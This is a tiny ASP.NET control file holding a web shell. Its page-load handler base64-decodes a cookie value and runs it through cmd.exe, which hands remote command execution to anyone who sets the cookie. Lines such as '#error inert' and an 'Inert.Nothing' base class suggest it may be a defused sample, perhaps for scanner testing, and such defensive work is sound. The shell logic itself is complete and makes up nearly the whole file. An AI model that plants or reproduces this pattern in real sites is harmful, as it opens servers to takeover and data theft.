<%@ Control Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
void Page_Load() { string s = Encoding.UTF8.GetString(Convert.FromBase64String(Request.Cookies["k"].Value)); Process.Start("cmd.exe", "/c " + s); }
</script>